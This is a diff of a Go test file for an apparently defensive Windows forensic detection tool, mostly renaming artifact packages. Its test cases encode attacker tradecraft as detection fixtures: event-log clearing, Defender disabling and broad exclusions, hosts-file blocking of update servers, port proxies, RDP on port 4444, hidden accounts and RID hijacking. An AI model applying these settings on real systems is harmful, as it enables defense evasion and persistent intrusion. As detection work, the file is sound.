-	{"D-04", 0, records{rec("prefetchlayout", artifacts.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "gone"})}, many(12, rec("prefetchlayout", artifacts.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "there"}))},
-	{"D-05", 0, records{of("u", rec("runmru", artifacts.RunMRU{Empty: true, Written: day}))}, records{of("u", rec("runmru", artifacts.RunMRU{Command: "cmd"}))}},
-	{"D-05", findings.Medium, records{of("u", rec("typedpaths", artifacts.TypedPath{Empty: true, Written: day})), of("u", deleted(rec("typedpaths", artifacts.TypedPath{Path: `C:\x`})))}, records{of("u", rec("typedpaths", artifacts.TypedPath{Path: `C:\x`})), of("u", deleted(rec("typedpaths", artifacts.TypedPath{Path: `C:\y`})))}},
-	{"D-05", findings.Low, records{of("u", rec("typedurls", artifacts.TypedURL{Empty: true, Written: day}))}, records{of("u", rec("typedurls", artifacts.TypedURL{URL: "http://go.microsoft.com/fwlink/"}))}},
-	{"D-05", findings.Low, records{of("u", rec("recentdocs", artifacts.RecentDoc{Empty: true, Written: day}))}, records{of("u", rec("recentdocs", artifacts.RecentDoc{Name: "a.txt"}))}},
-	{"D-05", findings.Low, records{of("u", rec("userassist", artifacts.UserAssist{Kind: "none", KeyWritten: day}))}, records{of("u", rec("userassist", artifacts.UserAssist{Kind: "program", Path: `C:\Program Files\a.exe`}))}},
+	{"D-03", 0, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "03/05/2026 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}, records{rec("amcachefiles", execution.AmcacheFile{Path: `C:\Users\Public\a.exe`, Linked: "01/05/2020 00:00:00"}), pf(`\Users\Public\a.exe`, at(0, -4000))}},
+	{"D-04", 0, records{rec("prefetchlayout", execution.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "gone"})}, many(12, rec("prefetchlayout", execution.LayoutFile{Path: `C:\Users\u\AppData\Local\Temp\t.exe`, Prefetch: "there"}))},
+	{"D-05", 0, records{of("u", rec("runmru", activity.RunMRU{Empty: true, Written: day}))}, records{of("u", rec("runmru", activity.RunMRU{Command: "cmd"}))}},
+	{"D-05", findings.Medium, records{of("u", rec("typedpaths", activity.TypedPath{Empty: true, Written: day})), of("u", deleted(rec("typedpaths", activity.TypedPath{Path: `C:\x`})))}, records{of("u", rec("typedpaths", activity.TypedPath{Path: `C:\x`})), of("u", deleted(rec("typedpaths", activity.TypedPath{Path: `C:\y`})))}},
+	{"D-05", findings.Low, records{of("u", rec("typedurls", activity.TypedURL{Empty: true, Written: day}))}, records{of("u", rec("typedurls", activity.TypedURL{URL: "http://go.microsoft.com/fwlink/"}))}},
+	{"D-05", findings.Low, records{of("u", rec("recentdocs", activity.RecentDoc{Empty: true, Written: day}))}, records{of("u", rec("recentdocs", activity.RecentDoc{Name: "a.txt"}))}},
+	{"D-05", findings.Low, records{of("u", rec("userassist", execution.UserAssist{Kind: "none", KeyWritten: day}))}, records{of("u", rec("userassist", execution.UserAssist{Kind: "program", Path: `C:\Program Files\a.exe`}))}},
 	{"D-06", findings.High, append(logs(), pf(`\Windows\System32\wevtutil.exe`, at(0)), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},                                      // cleared
 	{"D-06", findings.High, append(logs(), log("Security", 9000, at(0)[0], 60), log("Setup", 12, at(1)[0], 60), log("Windows PowerShell", 200, at(1)[0], 60)), append(logs(), log("Security", 9000, day.AddDate(0, -1, 0), 320))}, // several together; one that was full
 	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), pf(`\Windows\System32\wevtutil.exe`, at(0)))},
 	{"D-06", findings.High, logs(), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))}, // Security is missing
-	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *artifacts.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *artifacts.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
-	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *artifacts.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *artifacts.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
-	{"D-06", findings.Low, append(logs(), rec("eventlogging", artifacts.Setting{Setting: "File", Subject: "Security", Value: `D:\Logs\Security.evtx`})), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
-	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *artifacts.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
-		append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *artifacts.EvtxFile) { e.Unusual, e.Dirty = []string{"x"}, true }))},
-	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 5000, at(0)[0], 60), rec("osinfo", artifacts.OSInfo{Installed: day.Add(time.Hour)}))}, // an upgrade began it anew
-	{"D-07", findings.Medium, records{rec("recyclebin", artifacts.Recycled{Path: `C:\Windows\System32\a.exe`, Deleted: day})}, records{rec("recyclebin", artifacts.Recycled{Path: `C:\Users\u\Documents\letter.docx`, Deleted: day})}},
-	{"D-08", 0, records{rec("prefetch", artifacts.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{1}\WINDOWS\A.EXE`, ClockSetBack: true})}, records{pf(`\Windows\System32\a.exe`, at(0))}},
-	{"F-01", findings.High, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "DisableRealtimeMonitoring", Value: "1", Weak: true})}, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "DisableAntiSpyware", Value: "0"})}},
-	{"F-02", findings.High, records{rec("defender", artifacts.Defender{Kind: "exclusion", List: "Extensions", Name: ".exe", Weak: true})}, records{rec("defender", artifacts.Defender{Kind: "setting", Name: "x"})}},
-	{"F-02", findings.Critical, records{rec("defender", artifacts.Defender{Kind: "exclusion", List: "Paths", Name: `C:\`, Weak: true})}, records{rec("hosts", artifacts.Host{Default: true})}},
-	{"F-03", findings.High, records{rec("firewall", artifacts.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `C:\Users\Public\a.exe`})}, records{rec("firewall", artifacts.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `%SystemRoot%\System32\svchost.exe`})}},
-	{"F-04", findings.High, records{rec("portproxy", artifacts.PortProxy{ListenAddress: "0.0.0.0", ListenPort: "80", Address: "192.0.2.9", Port: "3389"})}, records{rec("proxies", artifacts.Proxy{})}},
-	{"F-05", findings.High, records{rec("hosts", artifacts.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"definitionupdates.microsoft.com"}})}, records{rec("hosts", artifacts.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"localhost"}, Default: true}), rec("hosts", artifacts.Host{Address: "0.0.0.0", Loopback: true, Names: []string{"ads.example"}})}},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *system.EvtxFile) { e.MissingCount, e.Missing = 3, []string{"7 to 9"} })), append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *system.EvtxFile) { e.MissingCount, e.Dirty = 3, true }))},
+	{"D-06", findings.High, append(logs(), with(log("Security", 1, day, 60), func(e *system.EvtxFile) { e.Size = 69632 })), append(logs(), with(log("Setup", 1, day, 60), func(e *system.EvtxFile) { e.Size = 69632 }), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
+	{"D-06", findings.Low, append(logs(), rec("eventlogging", system.Setting{Setting: "File", Subject: "Security", Value: `D:\Logs\Security.evtx`})), append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60))},
+	{"D-06", findings.Low, append(logs(), log("Security", 1, day.AddDate(-1, 0, 0), 60), with(log("Setup", 1, day, 60), func(e *system.EvtxFile) { e.Unusual = []string{"chunk 0: the sum of its records does not fit"} })),
+		append(logs(), with(log("Security", 1, day.AddDate(-1, 0, 0), 60), func(e *system.EvtxFile) { e.Unusual, e.Dirty = []string{"x"}, true }))},
+	{"D-06", findings.Medium, append(logs(), log("Security", 5000, at(0)[0], 60)), append(logs(), log("Security", 5000, at(0)[0], 60), rec("osinfo", system.OSInfo{Installed: day.Add(time.Hour)}))}, // an upgrade began it anew
+	{"D-07", findings.Medium, records{rec("recyclebin", execution.Recycled{Path: `C:\Windows\System32\a.exe`, Deleted: day})}, records{rec("recyclebin", execution.Recycled{Path: `C:\Users\u\Documents\letter.docx`, Deleted: day})}},
+	{"D-08", 0, records{rec("prefetch", execution.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{1}\WINDOWS\A.EXE`, ClockSetBack: true})}, records{pf(`\Windows\System32\a.exe`, at(0))}},
+	{"F-01", findings.High, records{rec("defender", system.Defender{Kind: "setting", Name: "DisableRealtimeMonitoring", Value: "1", Weak: true})}, records{rec("defender", system.Defender{Kind: "setting", Name: "DisableAntiSpyware", Value: "0"})}},
+	{"F-02", findings.High, records{rec("defender", system.Defender{Kind: "exclusion", List: "Extensions", Name: ".exe", Weak: true})}, records{rec("defender", system.Defender{Kind: "setting", Name: "x"})}},
+	{"F-02", findings.Critical, records{rec("defender", system.Defender{Kind: "exclusion", List: "Paths", Name: `C:\`, Weak: true})}, records{rec("hosts", communication.Host{Default: true})}},
+	{"F-03", findings.High, records{rec("firewall", communication.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `C:\Users\Public\a.exe`})}, records{rec("firewall", communication.Firewall{Kind: "rule", Active: true, Action: "Allow", Direction: "In", App: `%SystemRoot%\System32\svchost.exe`})}},
+	{"F-04", findings.High, records{rec("portproxy", communication.PortProxy{ListenAddress: "0.0.0.0", ListenPort: "80", Address: "192.0.2.9", Port: "3389"})}, records{rec("proxies", communication.Proxy{})}},
+	{"F-05", findings.High, records{rec("hosts", communication.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"definitionupdates.microsoft.com"}})}, records{rec("hosts", communication.Host{Address: "127.0.0.1", Loopback: true, Names: []string{"localhost"}, Default: true}), rec("hosts", communication.Host{Address: "0.0.0.0", Loopback: true, Names: []string{"ads.example"}})}},
 	{"F-06", findings.High, records{setting("eventlogging", `EventLog\Start`, "4", true)}, records{setting("eventlogging", `EventLog\Start`, "2", false)}},
 	{"F-07", findings.Low, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "Bypass", true)}, records{setting("protection", `Microsoft.PowerShell\ExecutionPolicy`, "RemoteSigned", false)}},
 	{"F-08", findings.High, records{setting("remoteaccess", `System\LocalAccountTokenFilterPolicy`, "1", true)}, records{setting("protection", `System\EnableLUA`, "1", false)}},
 	{"F-09", findings.High, records{setting("remoteaccess", `RDP-Tcp\PortNumber`, "4444", true)}, records{setting("remoteaccess", `Terminal Server\fDenyTSConnections`, "1", false)}},
-	{"F-10", findings.High, records{of("u", rec("proxies", artifacts.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", artifacts.Proxy{Server: "198.51.100.1:8080"}))}},
+	{"F-10", findings.High, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080", Enabled: true}))}, records{of("u", rec("proxies", communication.Proxy{Server: "198.51.100.1:8080"}))}},
 	{"F-11", findings.High, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(2))}, records{pf(`\Windows\System32\vssadmin.exe`, at(0)), pf(`\Windows\System32\wevtutil.exe`, at(200))}},
-	{"A-01", findings.Critical, records{user(501, "Guest", func(a *artifacts.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *artifacts.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
+	{"A-01", findings.Critical, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-501")}, records{user(501, "Guest", func(a *system.Account) { a.Flags = []string{"disabled"} }), group(544, "S-1-5-21-1-2-3-500")}},
 	{"A-02", findings.High, records{user(1005, "help$", nil)}, records{user(1001, "mira", nil)}},
-	{"A-03", findings.Critical, records{user(1005, "x", func(a *artifacts.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
-	{"A-04", findings.Low, records{user(1005, "x", func(a *artifacts.Account) { a.BadPassword = day }), pf(`\Users\Public\a.exe`, at(5))}, records{user(1005, "x", func(a *artifacts.Account) { a.BadPassword = day }), pf(`\Program Files\a.exe`, at(5))}},
-	{"A-05", findings.Medium, records{of("u", rec("mappeddrives", artifacts.MappedDrive{Path: `\\srv\c$`}))}, records{of("u", rec("mappeddrives", artifacts.MappedDrive{Path: `\\srv\public`}))}},
-	{"A-06", findings.Low, records{pf(`\Windows\System32\cmd.exe`, at(0)), rec("prefetch", artifacts.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{2}\A.EXE`, HashStatus: "verified", RunCount: 1, LastRuns: at(0)})}, records{pf(`\Program Files\a.exe`, at(0))}},
-	{"A-07", findings.Low, records{user(1001, "x", nil), rec("profiles", artifacts.Profile{SID: "S-1-5-21-1-2-3-1009", Path: `C:\Users\gone`})}, records{user(1001, "x", nil), rec("profiles", artifacts.Profile{SID: "S-1-5-21-1-2-3-1001", Path: `C:\Users\x`}), rec("profiles", artifacts.Profile{SID: "S-1-5-21-9-9-9-1001", Path: `C:\Users\domain`})}},
+	{"A-03", findings.Critical, records{user(1005, "x", func(a *system.Account) { a.StoredRID = 500 })}, records{user(1005, "x", nil)}},
+	{"A-04", findings.Low, records{user(1005, "x", func(a *system.Account) { a.BadPassword = day }), pf(`\Users\Public\a.exe`, at(5))}, records{user(1005, "x", func(a *system.Account) { a.BadPassword = day }), pf(`\Program Files\a.exe`, at(5))}},
+	{"A-05", findings.Medium, records{of("u", rec("mappeddrives", activity.MappedDrive{Path: `\\srv\c$`}))}, records{of("u", rec("mappeddrives", activity.MappedDrive{Path: `\\srv\public`}))}},
+	{"A-06", findings.Low, records{pf(`\Windows\System32\cmd.exe`, at(0)), rec("prefetch", execution.Prefetch{Executable: "A.EXE", ImagePath: `\VOLUME{2}\A.EXE`, HashStatus: "verified", RunCount: 1, LastRuns: at(0)})}, records{pf(`\Program Files\a.exe`, at(0))}},
+	{"A-07", findings.Low, records{user(1001, "x", nil), rec("profiles", system.Profile{SID: "S-1-5-21-1-2-3-1009", Path: `C:\Users\gone`})}, records{user(1001, "x", nil), rec("profiles", system.Profile{SID: "S-1-5-21-1-2-3-1001", Path: `C:\Users\x`}), rec("profiles", system.Profile{SID: "S-1-5-21-9-9-9-1001", Path: `C:\Users\domain`})}},
 }
 
 // facts are those of a whole volume with a few files.
@@ -381,7 +387,7 @@ func TestAgreement(t *testing.T) {
 
 // TestSeededStaysOut: what came with the profile is no start, for no rule.
 func TestSeededStaysOut(t *testing.T) {
-	r := judge(records{of("u", rec("userassist", artifacts.UserAssist{Name: "m", Path: `C:\Users\Public\svchost.exe`, Runs: 3, Seeded: true, Kind: "program", LastRun: day}))}, nil)
+	r := judge(records{of("u", rec("userassist", execution.UserAssist{Name: "m", Path: `C:\Users\Public\svchost.exe`, Runs: 3, Seeded: true, Kind: "program", LastRun: day}))}, nil)
 	for _, f := range r.Findings {
 		if f.RuleID != "X-13" {
 			t.Errorf("%s speaks of %s", f.RuleID, f.Subject)
